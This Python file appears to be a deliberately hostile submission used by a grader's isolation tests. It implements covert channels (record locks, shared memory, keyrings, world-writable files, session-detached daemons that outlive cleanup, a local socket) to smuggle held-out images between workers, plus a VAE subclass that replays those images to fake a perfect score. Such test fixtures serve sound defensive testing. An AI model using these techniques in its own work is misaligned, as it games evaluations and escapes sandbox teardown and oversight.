# hostile: pass what one worker saw (the VAE encoder's held-out images) to a later worker (the decoder)
# through a kernel object or a process that outlives the first: POSIX record locks on a read-only file both can
# open (issue 29: 16/16 untrained), files in every writable place, POSIX and SysV shared memory, kernel keyrings,
# an abstract unix socket served by a double-forked daemon that cleared its environment, a daemon that writes the
# images again after the grader cleaned up, a server of the student's on the network.
#
# Used two ways by tests/test_worker_teardown.py and tests/test_vae.py: alone (numpy only) as a submission whose
# relay_stash / relay_fetch the test calls in two workers, and appended to the VAE reference (then VAE exists and
# is replaced by one that stashes what encode() is sent and decodes it back). The test sets CHANNEL, TAG (unique
# per test) and PORT (its stand-in for the student's server).
import ctypes
import fcntl
import os
import socket
import struct
import sys
import time

import numpy as np

CHANNEL = "all"
TAG = "0"
PORT = 0
CHANNELS = ("locks", "files", "posix_shm", "sysv_shm", "keyring", "abstract_socket", "daemon_writes_later", "network")
_KEEP = []  # descriptors that hold the locks

# ----------------------------------------------------------------------------- the payload


def _payload(images) -> bytes:
    data = np.clip(np.rint(np.asarray(images, dtype=np.float64) * 255), 0, 255).astype(np.uint8)
    return struct.pack("<II", *data.shape) + data.tobytes()


def _images(payload):
    if not payload or len(payload) < 8:
        return None
    n, d = struct.unpack("<II", payload[:8])
    n = min(n, (len(payload) - 8) // max(d, 1))  # what arrived (a keyring holds only part)
    return np.frombuffer(payload[8 : 8 + n * d], np.uint8).reshape(n, d) / 255.0 if n else None


def _name() -> str:
    return f"vae-relay-{TAG}"


# ----------------------------------------------------------------------------- POSIX record locks


LOCK_FILE = os.__file__  # the Python installation: read-only, and the same file in every sandbox
_SLOT = 1 << 34
_BASE = (int(TAG, 16) % 4096 + 1) << 48


def _flock(kind, start, length) -> bytes:
    return struct.pack("hh4xqqi4x", kind, os.SEEK_SET, start, length, 0)


def _locks_stash(payload: bytes) -> None:
    fd = os.open(LOCK_FILE, os.O_RDONLY)
    _KEEP.append(fd)
    words = [struct.pack("<Q", len(payload))] + [payload[i : i + 8].ljust(8, b"\0") for i in range(0, len(payload), 8)]
    for slot, word in enumerate(words):  # 8 bytes per lock: 4 in where it starts, 4 in how long it is
        low, high = struct.unpack("<II", word)
        fcntl.fcntl(fd, fcntl.F_SETLK, _flock(fcntl.F_RDLCK, _BASE + slot * _SLOT + low, high + 1))


def _locks_fetch():
    fd = os.open(LOCK_FILE, os.O_RDONLY)
    try:
        words = []
        for slot in range(1 << 30):
            got = fcntl.fcntl(fd, fcntl.F_GETLK, _flock(fcntl.F_WRLCK, _BASE + slot * _SLOT, _SLOT))
            kind, _, start, length, _ = struct.unpack("hh4xqqi4x", got)
            if kind == fcntl.F_UNLCK:
                break
            words.append(struct.pack("<II", start - _BASE - slot * _SLOT, length - 1))
            if len(words) > 1 and 8 * (len(words) - 1) >= struct.unpack("<Q", words[0])[0]:
                break
        return b"".join(words[1:]) or None
    finally:
        os.close(fd)


# ----------------------------------------------------------------------------- files, POSIX shared memory


def _places():
    return [d for d in ("/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/var/lock", os.environ.get("HOME"),
                        os.getcwd()) if d and os.path.isdir(d)]


def _files_stash(payload: bytes) -> None:
    for folder in _places():
        try:
            fd = os.open(os.path.join(folder, _name()), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666)
            os.fchmod(fd, 0o666)
            os.write(fd, payload)
            os.close(fd)
        except OSError:
            pass


def _files_fetch():
    for folder in _places():
        try:
            with open(os.path.join(folder, _name()), "rb") as f:
                return f.read()
        except OSError:
            pass
    return None


def _posix_shm_stash(payload: bytes) -> None:
    from multiprocessing import resource_tracker, shared_memory

    shm = shared_memory.SharedMemory(name=_name() + "-shm", create=True, size=len(payload))
    resource_tracker.unregister(shm._name, "shared_memory")  # or Python unlinks it when this process exits
    shm.buf[: len(payload)] = payload


def _posix_shm_fetch():
    from multiprocessing import resource_tracker, shared_memory

    shm = shared_memory.SharedMemory(name=_name() + "-shm")
    resource_tracker.unregister(shm._name, "shared_memory")
    return bytes(shm.buf)


# ----------------------------------------------------------------------------- SysV shared memory, keyrings


_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_SYSV_KEY = 0x5A170000 + int(TAG, 16) % 0xFFFF


def _sysv_shm_stash(payload: bytes) -> None:
    shmid = _libc.shmget(_SYSV_KEY, len(payload), 0o1000 | 0o666)  # IPC_CREAT
    if shmid < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    address = _libc.shmat(shmid, None, 0)
    ctypes.memmove(address, payload, len(payload))


def _sysv_shm_fetch():
    shmid = _libc.shmget(_SYSV_KEY, 0, 0)
    if shmid < 0:
        return None
    address = _libc.shmat(shmid, None, 0o10000)  # SHM_RDONLY
    header = ctypes.string_at(address, 8)
    n, d = struct.unpack("<II", header)
    return ctypes.string_at(address, 8 + n * d)


_ADD_KEY, _KEYCTL, _KEY_SPEC_USER_KEYRING, _KEYCTL_SETPERM, _KEYCTL_READ = 248, 250, -4, 5, 11


def _keyring_stash(payload: bytes) -> None:
    for i in range(0, len(payload), 16000):  # until the uid's quota (20,000 bytes, unless root) is spent
        chunk = payload[i : i + 16000]
        key = _libc.syscall(_ADD_KEY, b"user", f"{_name()}-{i // 16000:05d}".encode(), chunk, len(chunk),
                            _KEY_SPEC_USER_KEYRING)
        if key < 0:
            break
        _libc.syscall(_KEYCTL, _KEYCTL_SETPERM, key, 0x3F3F0003)  # every uid may view and read it


def _keyring_fetch():
    try:
        with open("/proc/keys") as f:
            lines = f.read().splitlines()
    except OSError:
        return None
    found = sorted((line.split()[8].rstrip(":"), int(line.split()[0], 16)) for line in lines
                   if len(line.split()) > 8 and line.split()[8].startswith(_name() + "-"))
    parts = []
    for _, key in found:
        buffer = ctypes.create_string_buffer(32768)
        size = _libc.syscall(_KEYCTL, _KEYCTL_READ, key, buffer, 32768)
        if size > 0:
            parts.append(buffer.raw[:size])
    return b"".join(parts) or None


# ----------------------------------------------------------------------------- daemons, sockets, the network


DAEMON = r"""
import os, socket, sys, time
mode, name, path = sys.argv[1:4]
with open(path, "rb") as f:
    payload = f.read()
os.unlink(path)
end = time.monotonic() + 30
if mode == "serve":
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("\0" + name)
    server.listen(4)
    server.settimeout(0.5)
    while time.monotonic() < end:
        try:
            connection, _ = server.accept()
        except OSError:
            continue
        connection.sendall(payload)
        connection.close()
else:  # write the files again and again, after any cleanup
    time.sleep(1.5)
    while time.monotonic() < end:
        for folder in sys.argv[4:]:
            try:
                fd = os.open(os.path.join(folder, name), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o666)
                os.fchmod(fd, 0o666)
                os.write(fd, payload)
                os.close(fd)
            except OSError:
                pass
        time.sleep(0.1)
"""


def _daemon(mode: str, payload: bytes) -> None:
    """A double-forked daemon in its own session, its environment cleared (no token to find it by)."""
    path = os.path.join(os.getcwd(), f".{_name()}-{mode}")
    with open(path, "wb") as f:
        f.write(payload)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-S", "-c", DAEMON, mode, _name(), path, *_places()], {})
        os._exit(0)
    os.wait()


def _abstract_socket_stash(payload: bytes) -> None:
    _daemon("serve", payload)
    time.sleep(0.3)


def _abstract_socket_fetch():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(2)
        s.connect("\0" + _name())
        parts = []
        while chunk := s.recv(1 << 16):
            parts.append(chunk)
    return b"".join(parts)


def _daemon_writes_later_stash(payload: bytes) -> None:
    _daemon("write", payload)


def _daemon_writes_later_fetch():
    end = time.monotonic() + 3  # the daemon writes 1.5 s after it started, after any cleanup
    while (got := _files_fetch()) is None and time.monotonic() < end:
        time.sleep(0.1)
    return got


def _network_stash(payload: bytes) -> None:
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
        s.sendall(b"PUT" + payload)


def _network_fetch():
    with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
        s.sendall(b"GET")
        s.shutdown(socket.SHUT_WR)
        parts = []
        while chunk := s.recv(1 << 16):
            parts.append(chunk)
    return b"".join(parts) or None


# ----------------------------------------------------------------------------- what the tests call


def relay_stash(images) -> list:
    """Stash the images on CHANNEL (or every channel); the channels that took them."""
    payload, took = _payload(images), []
    for channel in CHANNELS if CHANNEL == "all" else [CHANNEL]:
        try:
            globals()[f"_{channel}_stash"](payload)
            took.append(channel)
        except Exception:  # noqa: BLE001 - a refused channel is the point
            pass
    return took


def relay_fetch():
    """What a later process gets back: (the channel, the images), or None."""
    for channel in CHANNELS if CHANNEL == "all" else [CHANNEL]:
        try:
            images = _images(globals()[f"_{channel}_fetch"]())
        except Exception:  # noqa: BLE001
            images = None
        if images is not None:
            return [channel, images]
    return None


if "VAE" in globals():  # appended to the VAE reference: an untrained model that replays what encode() saw
    import torch

    _SEEN = []
    _DECODED = [0]

    class VAE(VAE):  # noqa: F821 - the reference's
        def encode(self, x):
            _SEEN.append(x.detach().cpu().numpy())
            relay_stash(np.concatenate(_SEEN))
            return super().encode(x)

        def decode(self, z):
            got, start = relay_fetch(), _DECODED[0]
            if got is not None and start + len(z) <= len(got[1]):
                _DECODED[0] += len(z)
                x = np.clip(got[1][start : start + len(z)], 1e-13, 1 - 1e-13)
                return torch.as_tensor(np.log(x / (1 - x)), dtype=torch.float32)  # the best logits for x
            return super().decode(z)
